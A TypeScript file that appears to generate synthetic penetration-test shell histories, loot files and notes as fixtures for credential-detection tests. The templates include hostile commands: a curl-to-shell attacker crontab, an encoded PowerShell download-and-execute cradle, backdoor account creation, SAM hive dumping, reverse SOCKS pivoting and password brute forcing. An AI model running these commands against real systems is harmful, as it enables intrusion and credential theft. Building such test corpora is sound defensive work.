// Shell histories, tester notes and loot files: credentials typed as arguments (sshpass, ldapsearch -w, mysql -p,
// curl -u, net user /add, runas, psql URLs), next to hashes, placeholders and environment references.
import type { RealWorldDoc } from '../types';
import { sDoc, S } from './secopsValues';

export const SECOPS_SHELL_DOCS: RealWorldDoc[] = [
  sDoc(
    'secops-zsh-history-kali',
    ['command-line', 'precision'],
    'home/kali/.zsh_history',
    (k) => `: 1772611201:0;nmap -sC -sV -oA initial 10.129.14.22
: 1772611388:0;ffuf -u http://10.129.14.22/FUZZ -w /usr/share/seclists/Discovery/Web-Content/raft-medium-words.txt
: 1772611502:0;sshpass -p '${k.spw()}' ssh -o StrictHostKeyChecking=no jenkins@10.129.14.22
: 1772611630:0;ldapsearch -x -H ldap://10.129.14.30 -D 'cn=ldapreader,dc=corp,dc=local' -w '${k.spw()}' -b 'dc=corp,dc=local' '(objectClass=user)' sAMAccountName
: 1772611701:0;echo '${k.n(S.ntlm(k.g))}' > admin.hash
: 1772611744:0;hashcat -m 1000 admin.hash /usr/share/wordlists/rockyou.txt -r best64.rule
: 1772611900:0;mysql -h 10.129.14.25 -u root -p${k.spw()} -e 'select user,authentication_string from mysql.user'
: 1772612011:0;export PGPASSWORD=${k.spw()}; psql -h 10.129.14.26 -U postgres -c '\\du'
: 1772612200:0;curl -s -u 'admin:${k.spw()}' http://10.129.14.22:8080/api/json | jq .
: 1772612250:0;psql 'postgresql://app_ro:${k.cs()}@10.129.14.26:5432/appdb' -c 'select count(*) from users'
: 1772612302:0;echo $HTB_VPN_PASS
`,
  ),
  sDoc(
    'secops-bash-history-admin',
    ['command-line', 'precision'],
    'evidence/web01/root/.bash_history',
    (k) => `cd /var/www/html
tail -n 200 /var/log/nginx/access.log | grep -v 127.0.0.1
mysqldump -u wp_admin --password=${k.spw()} wordpress > /tmp/wp.sql
scp /tmp/wp.sql backup@10.0.9.5:/srv/backups/
htpasswd -b /etc/nginx/.htpasswd monitoring ${k.spw()}
cat /etc/nginx/.htpasswd
rm /tmp/wp.sql
sha256sum /tmp/x86_64.bin
redis-cli -a ${k.spw()} INFO keyspace
echo "${k.n('*/5 * * * * curl -s hxxp://' + S.defang(k.g) + '/x | sh')}" # attacker crontab, seen in incident
history -c
`,
  ),
  sDoc(
    'secops-cmd-history-net-user',
    ['command-line', 'precision'],
    'evidence/ws114/ConsoleHost_history.txt',
    (k) => `whoami /all
net user /domain
net user backdoor ${k.spw()} /add
net localgroup administrators backdoor /add
reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv
reg save HKLM\\SYSTEM C:\\Windows\\Temp\\y.hiv
$pw = ConvertTo-SecureString "${k.spw()}" -AsPlainText -Force
$cred = New-Object System.Management.Automation.PSCredential('CORP\\svc_deploy', $pw)
Invoke-Command -ComputerName FS01 -Credential $cred -ScriptBlock { hostname }
powershell -nop -w hidden -enc ${k.n(S.psEnc('IEX (New-Object Net.WebClient).DownloadString("http://10.0.0.5/a.ps1")'))}
cmdkey /add:jump01 /user:CORP\\adm_hvogel /pass:${k.spw()}
runas /savecred /user:CORP\\adm_hvogel cmd.exe
`,
  ),
  sDoc(
    'secops-loot-creds-txt',
    ['credential-file', 'precision'],
    'loot/corp/creds.txt',
    (k) => `# creds collected — engagement ${S.ticket(k.g)} — DELETE AFTER REPORT
# format: source | user | secret | verified

spray          | corp\\t.schulz      | ${k.hpw()}                      | yes (smb, owa)
gpp            | .\\localadmin       | ${k.gpw()}                      | yes (12 hosts)
web.config     | crm_app            | ${k.gpw()}                      | yes (mssql)
kerberoast     | corp\\svc_sql       | ${k.hpw()}                      | yes
asrep          | corp\\old.scanner   | ${k.n('(not cracked)')}                  | -
secretsdump    | corp\\krbtgt        | ${k.n(S.ntlm(k.g))} | hash only
keepass (kdbx) | master              | ${k.phrase()}    | yes
default        | printer admin      | ${k.u('admin:1234')}                 | yes
`,
  ),
  sDoc(
    'secops-ctf-notes-md',
    ['command-line', 'prose', 'precision'],
    'ctf/htb-machines/Bastion-notes.md',
    (k) => `# HTB — "Sentinel" (medium, Windows)

## Foothold
- SMB null session lists \`Backups\` share. VHD inside → SAM → local admin hash ${k.n(S.ntlm(k.g))}.
- Cracked: \`L4mpAdm1n\` is not it; hashcat says ${k.hpw()}.

## User
\`ssh l4mer@10.129.136.29\` with password ${k.hpw()} → user flag ${k.n(S.flag(k.g))}

## Root
mRemoteNG confCons.xml holds the admin password encrypted (\`${k.u(k.g.base64(88))}\`), decrypted with
mremoteng_decrypt.py: ${k.gpw()}

root flag: ${k.n(S.flag(k.g))}
`,
  ),
  sDoc(
    'secops-tester-scratch-txt',
    ['command-line', 'prose', 'precision'],
    'notes/scratch/day2.txt',
    (k) => `day 2 — internal

- jump box creds from client (via Signal): user pentest-ext / pw ${k.hpw()}
- VPN profile: client.ovpn + auth-user-pass file (pw ${k.gpw()})
- vcenter: administrator@vsphere.local:${k.spw()} (found in ansible inventory, see screenshot 14)
- do NOT use: domain admin given as "break glass" ${k.n('[REDACTED — sealed envelope]')}
- idrac on esx03 still root/${k.u('calvin')}
- tried ${k.n('P@ssw0rd')}, ${k.n('Welcome1')}, ${k.n('Company123')} from the spray list — nothing on OWA

TODO: screenshot of Pwn3d! on FS01, hash ${k.n(S.md5(k.g))} of exfil test file
`,
  ),
  sDoc(
    'secops-ps1-spray-script',
    ['command-line', 'code', 'precision'],
    'tools/internal/Invoke-ServiceCheck.ps1',
    (k) => `# Checks that the scanning service account still works on the jump hosts (run by the SOC every morning)
param(
  [string]$User = "CORP\\svc_vulnscan",
  [string]$Password = "${k.gpw()}"
)
$secure = ConvertTo-SecureString $Password -AsPlainText -Force
$cred = [pscredential]::new($User, $secure)
$hosts = Get-Content .\\jumphosts.txt
foreach ($h in $hosts) {
  try { Test-WSMan -ComputerName $h -Credential $cred -Authentication Negotiate | Out-Null; "$h OK" }
  catch { "$h FAILED: $($_.Exception.Message)" }
}
# old way kept for reference: $Password = Read-Host -AsSecureString
# vault: ${k.n('secret/soc/svc_vulnscan')}
`,
  ),
  sDoc(
    'secops-batch-mapdrive-legacy',
    ['command-line', 'precision'],
    'evidence/sysvol/scripts/logon.bat',
    (k) => `@echo off
REM Logon script — found on SYSVOL during the assessment, readable by Authenticated Users
net use H: \\\\FS01\\home\\%USERNAME% /persistent:no
net use S: \\\\FS02\\scans /user:CORP\\svc_scanner ${k.spw()} /persistent:no
net use P: \\\\PRINT01\\drivers /user:%USERDOMAIN%\\%USERNAME%
if exist "\\\\FS01\\it\\ok.flag" goto end
start "" "\\\\FS01\\it\\inventory.exe" /key ${k.n(S.UPNUM.slice(0, 5) + '-' + k.g.digits(5))}
:end
`,
  ),
  sDoc(
    'secops-gpp-groups-xml',
    ['credential-file', 'precision'],
    'evidence/sysvol/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/Groups/Groups.xml',
    (k) => `<?xml version="1.0" encoding="utf-8"?>
<Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}">
  <User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="localadmin" image="2" changed="2019-03-14 10:12:45" uid="{${k.n(k.g.uuid().toUpperCase())}}">
    <Properties action="U" newName="" fullName="" description="local admin (GPP)" cpassword="${k.s('password', k.g.base64(43))}" changeLogon="0" noChange="1" neverExpires="1" acctDisabled="0" userName="localadmin"/>
  </User>
</Groups>
<!-- gpp-decrypt result kept by the tester: ${k.gpw()} -->
`,
  ),
  sDoc(
    'secops-proxychains-notes',
    ['command-line', 'precision'],
    'notes/pivot/pivot.md',
    (k) => `# Pivot via web02

\`\`\`bash
chisel server -p 8000 --reverse --auth pentest:${k.spw()}
./chisel client --auth pentest:${k.n('$CHISEL_AUTH')} 10.8.0.2:8000 R:socks
proxychains -q nxc mssql 172.20.0.0/24 -u sa -p '${k.spw()}' --local-auth
proxychains -q mssqlclient.py sa:'${k.spw()}'@172.20.0.15
ngrok config add-authtoken ${k.prov('ngrok', S.ngrok(k.g))}
\`\`\`

socks5 user/pass for the team: see 1Password item ${k.n('op://RedTeam/pivot-socks/password')}.
`,
  ),
  sDoc(
    'secops-wpscan-output',
    ['logs-and-output', 'command-line', 'precision'],
    'notes/webapp/wpscan.txt',
    (k) => `$ wpscan --url https://blog.client.example --api-token ${k.prov('WPScan', k.g.alnum(43))} -U users.txt -P top1000.txt
_______________________________________________________________
         __          _______   _____
         \\ \\        / /  __ \\ / ____|
          \\ \\  /\\  / /| |__) | (___   ___  __ _ _ __ ®
[+] URL: https://blog.client.example/ [${S.pubIp(k.g)}]
[+] WordPress version 6.1.1 identified (Insecure, released on 2022-11-15).
[!] Title: WP < 6.1.3 - Unauthenticated Blind SSRF via DNS Rebinding  Reference: ${k.n(S.cve(k.g))}
[+] Performing password attack on Xmlrpc Multicall against 3 user/s
[SUCCESS] - editor / ${k.hpw()}
Trying admin / ${k.n('letmein')} Time: 00:00:41 <====> (1000 / 1000) 100.00% Time: 00:00:41
[!] Valid Combinations Found:
 | Username: editor, Password: (above)
`,
  ),
  sDoc(
    'secops-crontab-scanner',
    ['command-line', 'precision'],
    'soc/scanner01/crontab.txt',
    (k) => `# m h dom mon dow command
15 2 * * 1 /opt/nessus/sbin/nessuscli fetch --register-offline /opt/nessus/nessus.license
30 3 * * * /usr/bin/python3 /opt/soc/export_findings.py --user soc_export --password '${k.spw()}' --out /srv/exports
0 * * * * /usr/local/bin/rclone sync /srv/exports s3-soc:findings --s3-secret-access-key ${k.prov('AWS secret access key', S.awsSecret(k.g))} --s3-access-key-id ${k.u(S.awsId(k.g))}
*/10 * * * * /opt/soc/healthcheck.sh >/dev/null 2>&1   # uses $HEALTH_TOKEN from /etc/default/soc
`,
  ),
];
